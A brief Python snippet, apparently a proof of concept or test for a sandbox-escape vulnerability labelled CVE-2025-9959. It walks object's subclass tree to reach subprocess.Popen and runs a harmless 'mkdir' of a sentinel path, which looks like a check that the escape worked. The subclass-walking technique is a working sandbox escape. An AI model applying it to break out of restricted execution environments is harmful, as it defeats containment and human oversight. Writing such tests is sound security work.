# CVE-2025-9959: object's subclasses include subprocess.Popen once the host imported it.
def every(cls):
    for sub in type.__subclasses__(cls):
        yield sub
        yield from every(sub)
popen = next(c for c in every(().__class__.__base__) if c.__name__ == "Popen")
popen(["mkdir", SENTINEL]).wait()
